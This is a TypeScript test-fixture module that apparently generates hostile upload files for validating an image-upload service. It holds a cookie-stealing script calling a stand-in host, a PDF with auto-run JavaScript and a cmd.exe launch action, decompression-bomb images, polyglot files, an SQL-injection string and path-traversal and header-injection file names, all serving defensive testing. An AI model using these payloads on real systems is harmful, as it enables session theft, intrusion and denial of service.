import { crc32, deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import sharp from 'sharp';

/** What none of our answers may ever hold. */
export const script = '<script>fetch("https://elsewhere.example/"+document.cookie)</script>';
const page = `<!doctype html><html><body>${script}</body></html>`;

function chunk(type: string, data: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  sum.writeUInt32BE(crc32(named) >>> 0);
  return Buffer.concat([length, named, sum]);
}

/** A PNG of so many grey pixels, whose bytes take next to nothing, or that only says it holds them. */
export function greyPng(
  width: number,
  height: number,
  options: { pixels?: boolean; interlaced?: boolean; text?: string } = {},
): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 0, 0, 0, options.interlaced ? 1 : 0], 8);
  // A filter byte a line; interlaced, each of the seven passes has lines of its own, so there are more of them.
  const raw = options.pixels
    ? Buffer.alloc((width + 2) * height * (options.interlaced ? 2 : 1))
    : Buffer.alloc(1);
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    chunk('IHDR', header),
    ...(options.text ? [chunk('tEXt', Buffer.from(`Comment\0${options.text}`, 'latin1'))] : []),
    chunk('IDAT', deflateSync(raw, { level: 9 })),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A lossless WebP that says it has 16 383 pixels a side and holds none. */
export function hugeWebp(): Buffer {
  const bits = Buffer.alloc(4);
  bits.writeUInt32LE((16_382 | (16_382 << 14)) >>> 0);
  const data = Buffer.concat([Buffer.from([0x2f]), bits, Buffer.alloc(9)]);
  const size = (n: number) => {
    const out = Buffer.alloc(4);
    out.writeUInt32LE(n);
    return out;
  };
  const body = Buffer.concat([Buffer.from('WEBPVP8L'), size(data.length), data]);
  return Buffer.concat([Buffer.from('RIFF'), size(body.length), body]);
}

const plain = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: '#3a6ea5' }, limitInputPixels: false });

/** A picture as a camera makes it, with these blocks of metadata saying something they shouldn’t. */
export const scriptedJpeg = (): Promise<Buffer> =>
  plain(640, 480)
    .jpeg()
    .withExif({
      IFD0: { ImageDescription: script, Artist: script, Copyright: "'; DROP TABLE photos; --" },
      IFD2: { DateTimeOriginal: script, UserComment: script },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '50/1 20/1 30/1' },
    })
    .withXmp(
      `<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">${script}</x:xmpmeta>`,
    )
    .toBuffer();

/** A progressive JPEG whose second scan comes a thousand times. */
export async function manyScans(): Promise<Buffer> {
  const jpeg = await plain(3000, 3000).jpeg({ progressive: true }).toBuffer();
  const starts: number[] = [];
  for (
    let at = jpeg.indexOf('\xff\xda', 0, 'latin1');
    at >= 0;
    at = jpeg.indexOf('\xff\xda', at + 2, 'latin1')
  ) {
    starts.push(at);
  }
  const [, second = 0, third = 0] = starts;
  // With the tables that stand before it.
  const tables = jpeg.lastIndexOf('\xff\xc4', second, 'latin1');
  const from = tables > (starts[0] ?? 0) ? tables : second;
  const again = jpeg.subarray(from, third);
  return Buffer.concat([
    jpeg.subarray(0, third),
    ...Array.from({ length: 1000 }, () => again),
    jpeg.subarray(third),
  ]);
}

/** A PDF that runs a script, opens a page and a program, and brings a file along. */
export async function activePdf(): Promise<Buffer> {
  const document = await PDFDocument.create();
  document.addPage().drawText('Invoice 12');
  document.addJavaScript('start', 'app.launchURL("https://elsewhere.example/")');
  await document.attach(Buffer.from('MZ a program'), 'setup.exe', { mimeType: 'application/octet-stream' });
  const launch = { Type: 'Action', S: 'Launch', F: PDFString.of('cmd.exe') };
  document.catalog.set(PDFName.of('OpenAction'), document.context.obj(launch));
  return Buffer.from(await document.save({ useObjectStreams: false }));
}

const zip = Buffer.concat([
  Buffer.from('PK\x03\x04\x0a\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x05\0\0\0a.htm', 'latin1'),
  Buffer.from('PK\x05\x06\0\0\0\0\x01\0\x01\0\x33\0\0\0\x23\0\0\0\0\0', 'latin1'),
]);

export interface HostileFile {
  what: string;
  name: string;
  type: string;
  bytes: () => Promise<Buffer> | Buffer;
}

const file = (what: string, name: string, type: string, bytes: HostileFile['bytes']): HostileFile => ({
  ...{ what, name, type, bytes },
});
const jpeg = () => plain(400, 300).jpeg().toBuffer();

/** Files that are refused wherever they are sent, each with a sentence. */
export const refusedFiles: HostileFile[] = [
  file('SVG with a script', 'a.svg', 'image/svg+xml', () =>
    Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`),
  ),
  file('SVG called JPEG', 'a.jpg', 'image/jpeg', () =>
    Buffer.from(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`),
  ),
  file('a page called JPEG', 'a.jpg', 'image/jpeg', () => Buffer.from(page)),
  file('GIF with a script', 'a.gif', 'image/gif', () =>
    Buffer.from(`GIF89a/*\x01\0\x01\0\0\0\0*/=1;alert(1)//`, 'latin1'),
  ),
  file('a page before a PDF', 'a.pdf', 'application/pdf', async () =>
    Buffer.concat([Buffer.from(page), await activePdf()]),
  ),
  file('a page before a JPEG', 'a.jpg', 'image/jpeg', async () =>
    Buffer.concat([Buffer.from(page), await jpeg()]),
  ),
  file('a ZIP', 'a.jpg', 'image/jpeg', () => zip),
  file('a program', 'a.png', 'image/png', () => Buffer.from(`MZ${'\0'.repeat(200)}`, 'latin1')),
  file('PNG of 100 000 × 1', 'a.png', 'image/png', () => greyPng(100_000, 1, { pixels: true })),
  file('PNG of 1 × 100 000', 'a.png', 'image/png', () => greyPng(1, 100_000, { pixels: true })),
  file('PNG that says 60 000 × 60 000', 'a.png', 'image/png', () => greyPng(60_000, 60_000)),
  file('PNG that says 2³¹ − 1 a side', 'a.png', 'image/png', () => greyPng(2 ** 31 - 1, 2 ** 31 - 1)),
  file('PNG whose pixels are missing', 'a.png', 'image/png', () => greyPng(9000, 9000)),
  file('WebP that says 16 383 a side', 'a.webp', 'image/webp', hugeWebp),
  file('TIFF of many frames', 'a.tif', 'image/tiff', async () => {
    const frames = await Promise.all(Array.from({ length: 3 }, () => plain(60, 60).png().toBuffer()));
    return sharp(frames, { join: { animated: true } })
      .tiff()
      .toBuffer();
  }),
  file('a JPEG cut in half', 'a.jpg', 'image/jpeg', async () => (await jpeg()).subarray(0, 900)),
  file('nothing', 'a.jpg', 'image/jpeg', () => Buffer.alloc(0)),
  file('the first bytes of a JPEG', 'a.jpg', 'image/jpeg', () => Buffer.from('\xff\xd8\xff\xe0', 'latin1')),
  file('a PDF without an end', 'a.pdf', 'application/pdf', () => Buffer.from('%PDF-1.7\n1 0 obj\n')),
];

/** Pictures that are taken, and must do nothing wherever they are shown. */
export const harmlessFiles: HostileFile[] = [
  file('JPEG with scripts in Exif and XMP', 'a.jpg', 'image/jpeg', scriptedJpeg),
  file('JPEG with a page behind it', 'b.html', 'text/html', async () =>
    Buffer.concat([await plain(401, 300).jpeg().toBuffer(), Buffer.from(page)]),
  ),
  file('JPEG with a ZIP behind it', 'c.zip', 'application/zip', async () =>
    Buffer.concat([await plain(402, 300).jpeg().toBuffer(), zip]),
  ),
  file('PNG with a script in its text', 'd.png', 'image/svg+xml', () =>
    greyPng(64, 48, { pixels: true, text: script }),
  ),
  file('WebP that moves', 'e.webp', 'image/webp', async () => {
    const frames = await Promise.all(
      ['#f00', '#0f0'].map((background) =>
        sharp({ create: { width: 90, height: 70, channels: 3, background } })
          .png()
          .toBuffer(),
      ),
    );
    return sharp(frames, { join: { animated: true } })
      .webp({ loop: 0, delay: [10, 10] })
      .toBuffer();
  }),
];

/** Names under which files come, and what none may keep of it. */
export const hostileNames = [
  '../../../etc/passwd.jpg',
  '..\\..\\windows\\system32\\a.jpg',
  '/absolute/a.jpg',
  'a\u202egpj.exe',
  'a\u0000b.jpg',
  'a\r\nSet-Cookie: x=1.jpg',
  `a"; filename="b.html`,
  `${'x'.repeat(10_000)}.jpg`,
  '<img src=x onerror=alert(1)>.jpg',
  '.htaccess',
  'con.jpg',
  '%2e%2e%2fa.jpg',
  '',
];
